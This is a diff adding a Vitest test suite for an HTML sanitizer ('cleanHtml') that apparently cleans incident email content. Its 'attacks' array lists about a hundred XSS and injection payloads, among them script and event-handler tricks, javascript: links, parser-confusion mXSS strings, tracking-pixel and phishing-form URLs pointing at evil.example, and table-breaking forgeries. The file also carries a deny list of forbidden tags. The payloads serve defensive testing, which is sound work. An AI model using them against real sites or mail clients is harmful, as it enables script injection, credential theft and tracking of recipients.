@@ -1,0 +1,258 @@
+import { load } from 'cheerio'
+import { describe, expect, it } from 'vitest'
+import { cleanHtml } from '../../src/incident/clean-html.js'
+
+describe('harmless text and markup come through byte for byte', () => {
+  const harmless = [
+    '',
+    'plain text, R&D, "quotes" & an em—dash',
+    'a > b, {{ braces }}, &lt;tags&gt;',
+    'if a < b and b <= c then 1 <2',
+    '<div class="rte"><div>The laptop was <b>stolen</b> &amp; reported.</div></div>',
+    '<p style="color: red; margin: 0 0 10px; font-family: \'Segoe UI\', Arial">x</p>',
+    '<a target="_blank" href="https://soar.example.com:443/#incidents/2139?orgId=201&amp;taskId=994">Task</a>',
+    '<a href=\'mailto:soc@example.com?subject=Hi\'>mail</a> <a href="tel:+49123">call</a>',
+    '<UL>\n <LI>one</LI>\n <LI>two<br/>lines</LI>\n</UL>',
+    '<table width="100%" border=1><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1<table><tr><td>in</td></tr></table></td></tr></tbody></table>',
+    '<img src="cid:logo@example" alt="Logo" width="120" height="40px">',
+    '<h1>A</h1><hr><blockquote>q</blockquote><pre>  two  spaces\n</pre><font color="#ff0000" face="Arial" size="2">x</font>',
+    '<span style="background-color: rgb(255, 255, 0)">marked</span><wbr>&nbsp;',
+  ]
+  it.each(harmless)('%s', (html) => {
+    expect(cleanHtml(html)).toBe(html)
+  })
+
+  it('an address or link in angle brackets is kept as text', () => {
+    expect(cleanHtml('From: Eve <eve@example.com>, see <https://example.com/a?b=c>')).toBe(
+      'From: Eve &lt;eve@example.com&gt;, see &lt;https://example.com/a?b=c&gt;',
+    )
+  })
+
+  it('what is open is closed, and what stands crosswise is put right', () => {
+    expect(cleanHtml('<b><i>x</b></i>y<div><p>a<p>b')).toBe('<b><i>x</i></b>y<div><p>a</p><p>b</p></div>')
+    expect(cleanHtml('<ul><li>a<li>b</ul>')).toBe('<ul><li>a</li><li>b</li></ul>')
+  })
+})
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example></sCrIpT>',
+  '<script>alert(1)',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>script>alert(1)<</script>/script>',
+  '<b<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://evil.example/pixel.gif?who=ciso">',
+  '<img src="cid:a" srcset="https://evil.example/p.gif 2x" onload="alert(1)">',
+  '<image src="https://evil.example/p.gif">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<img """><script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" \u0001java\tscr\nipt:alert(1)">x</a>',
+  '<a href="&#106;avascript&colon;alert(1)">x</a>',
+  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="file:///etc/passwd">x</a>',
+  '<a href="https:evil.example">x</a>',
+  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;top:0;left:0;width:9999px">x</a>',
+  '<a href="https://ok.example" ping="https://evil.example">x</a>',
+  '<a title=\'x" onmouseover="alert(1)\' href="https://ok.example">x</a>',
+  '<a title=`x href=javascript:alert(1)//`>x</a>',
+  '<a/onmouseover=alert(1)/href="https://ok.example">x</a>',
+  '<p onclick\n=\n"alert(1)">x</p>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="evil.swf"><embed src="evil.swf"></object>',
+  '<embed src="evil.swf">',
+  '<applet code="Evil"></applet>',
+  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
+  '<input type="image" src="https://evil.example/p.gif" formaction="javascript:alert(1)">',
+  '<isindex type=image src=1 onerror=alert(1)>',
+  '<select><option><img src=x onerror=alert(1)></select>',
+  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math href="javascript:alert(1)">x</math>',
+  '<style>* { display: none } @import "https://evil.example"</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<body background="https://evil.example/p.gif" onload="alert(1)">',
+  '<table background="https://evil.example/p.gif"><tr><td background="https://evil.example/p.gif">x</td></tr></table>',
+  '<video poster="https://evil.example/p.gif"><source onerror="alert(1)"></video>',
+  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
+  '<div style="background:url(https://evil.example/p.gif)">x</div>',
+  '<div style="background:u\\72l(https://evil.example/p.gif)">x</div>',
+  '<div style="background:url/**/(https://evil.example/p.gif)">x</div>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<div style="wid/**/th:exp/**/ression(alert(1))">x</div>',
+  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</div>',
+  '<div style="position:absolute;top:0;left:0;z-index:9999">overlay</div>',
+  '<div style="margin-top:-500px">overlay</div>',
+  '<div style="display:none;opacity:0;visibility:hidden">x</div>',
+  '<div style="color:red&#59;position:fixed">x</div>',
+  '<div style=\'font-family:"x&quot;;position:fixed;a:&quot;"\'>x</div>',
+  '<div style="float:left;transform:scale(99)">x</div>',
+  '<div style="@import url(x);color:red">x</div>',
+  '<div style="width:99999999px">x</div>',
+  '<!-- comment --><!--[if mso]><script>alert(1)</script><![endif]-->',
+  '<![if !mso]><img src=x onerror=alert(1)><![endif]>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--!><img src=x onerror=alert(1)>--!>',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?php echo 1 ?><?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
+  '</td></tr></table><h1>forged</h1>',
+  '</td></tr><tr><td id="forged"><a href="https://evil.example">Incident 2139</a></td></tr><tr><td>',
+  '<td>forged</td>',
+  '<tr><td>forged</td></tr>',
+  '</td><td>forged',
+  '<table><table></table></table></table>forged',
+  '<table><tr><td><table></td></tr></table></table></table>forged',
+  '<table><caption><table></caption></table></table>forged',
+  '<table><tr><b><td></b></td></tr></table></table>forged',
+  '<table><td></table></td></table>forged',
+  '<table><colgroup><td></colgroup></table></table>forged',
+  '<ul></ul></li></ul></td>forged',
+  '</div></div></body></html>forged',
+  '<div></td></div>forged',
+  '<textarea></td></textarea><title></td></title>forged',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
+  '<plaintext>forged',
+  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<dialog open>x</dialog>',
+  '<x-widget onclick=alert(1)>x</x-widget>',
+  '<p id="x" name="y" contenteditable tabindex=1 autofocus onfocus=alert(1)>x</p>',
+  '<font color="red;position:fixed" face="x\' onload=\'y">x</font>',
+  '<td colspan="1000000000">x',
+  '<table><tr><td colspan="1000000000" rowspan="1000000000">x</td></tr></table>',
+  '<a href="https://ok.example"><a href="https://evil.example">x</a></a></a>',
+  '<b>unclosed <i>unclosed <a href="https://ok.example">unclosed',
+  '<b title="<script>alert(1)</script>">x</b>',
+  '<b title="\'><script>alert(1)</script>">x</b>',
+  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '<img src="cid:x" alt="" width=100 height=100 style="position:fixed">',
+  '<a href="https://ok.example"',
+  '<p title="',
+  '<p><!--',
+]
+
+const forbidden = new Set(
+  'script style iframe object embed applet form input button select option textarea svg math link meta base video audio source frame frameset template noscript title marquee plaintext xmp'.split(
+    ' ',
+  ),
+)
+
+/** Reads the cleaned text where templates put it, in a cell, as a browser does. */
+function inCell(html: string) {
+  const page = `<table id="mail"><tr id="row"><td id="cell">${cleanHtml(html)}</td><td id="next">next</td></tr><tr><td id="last">last</td></tr></table>`
+  return load(page)
+}
+
+function expectHarmless(html: string): void {
+  const $ = inCell(html)
+  expect($('body').children().length, 'nothing stands outside of the table').toBe(1)
+  expect($('body').text().endsWith('nextlast')).toBe(true)
+  expect($('#cell').parent().attr('id')).toBe('row')
+  expect($('#row').children('td').length, 'the row has the cells of the template').toBe(2)
+  expect($('#mail > tbody > tr').length, 'the table has the rows of the template').toBe(2)
+  expect($('#next').html()).toBe('next')
+  const nodes = $('#cell *').toArray()
+  for (const node of nodes) {
+    expect(forbidden.has(node.name), `<${node.name}>`).toBe(false)
+    for (const [name, value] of Object.entries(node.attribs)) {
+      expect(name).toMatch(/^(?!on)[a-z]+$/)
+      expect([
+        'id',
+        'name',
+        'action',
+        'formaction',
+        'ping',
+        'srcset',
+        'srcdoc',
+        'background',
+        'poster',
+      ]).not.toContain(name)
+      if (name === 'href') expect(value.trim()).toMatch(/^(?:https?:\/\/|mailto:|tel:|cid:)/i)
+      if (name === 'src') expect(value).toMatch(/^cid:/i)
+      if (name === 'style')
+        expect(value).not.toMatch(
+          /url|expression|position|display|opacity|float|transform|behavior|binding|import|[\\@]|-\d|\d{5}/i,
+        )
+      if (name.endsWith('span')) expect(Number(value)).toBeLessThan(1000)
+    }
+  }
+  expect(cleanHtml(html)).not.toMatch(/<!|<\?/)
+}
+
+describe('what attackers write is taken out', () => {
+  it.each(attacks)('%s', (attack) => {
+    expectHarmless(attack)
+    expectHarmless(`before ${attack} after`)
+  })
+
+  it('any two attacks after one another', () => {
+    for (const first of attacks) for (const second of attacks) cleanHtml(first + second)
+    for (const [index, attack] of attacks.entries())
+      expectHarmless(attack + (attacks[(index * 7 + 3) % attacks.length] ?? ''))
+  })
+
+  it('whatever is left is left alone the second time', () => {
+    for (const attack of attacks) expect(cleanHtml(cleanHtml(attack))).toBe(cleanHtml(attack))
+  })
+
+  it('tags in any order', () => {
+    const pieces =
+      '<table> </table> <tr> </tr> <td> </td> <th> <tbody> </tbody> <caption> </caption> <colgroup> <col> <ul> </ul> <li> </li> <p> </p> <div> </div> <b> </b> <i> </i> <h1> </h1> <h2> <dl> <dt> <dd> </dl> x <a href="https://a.example"> </a> <br> </br> <hr> <!-- --> <pre> </pre> <blockquote> <font> </font>'.split(
+        ' ',
+      )
+    let seed = 42
+    const next = () => {
+      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648
+      return pieces[Math.floor((seed / 2_147_483_648) * pieces.length)] ?? ''
+    }
+    for (let round = 0; round < 1500; round++) expectHarmless(Array.from({ length: 12 }, next).join(''))
+  })
+})
+
+describe('the work grows with the length alone', () => {
+  const units = [
+    '<',
+    '<a ',
+    '<a href="',
+    '<!--',
+    '</',
+    '<a b=c ',
+    '&',
+    '<p>',
+    '</p>',
+    '<table><tr><td>',
+    '<b><i>',
+    '<?',
+    '<ul><li>',
+    '<svg>',
+    '</svg>',
+    '<a\t\t',
+    '<p style="a:b;',
+    '&#60;',
+  ]
+  it.each(units)('%s, 50,000 times', (unit) => {
+    const cleaned = cleanHtml(`<p>${unit.repeat(50_000)}`)
+    expect(cleaned.length).toBeLessThan(unit.length * 50_000 * 6 + 1000)
+  })
+
+  it('elements stand at most 60 deep in one another', () => {
+    const cleaned = cleanHtml('<div>'.repeat(10_000) + '</div>'.repeat(10_000))
+    expect(cleaned.split('<div>').length - 1).toBe(60)
+    expect(cleaned.split('</div>').length - 1).toBe(60)
+  })
+})
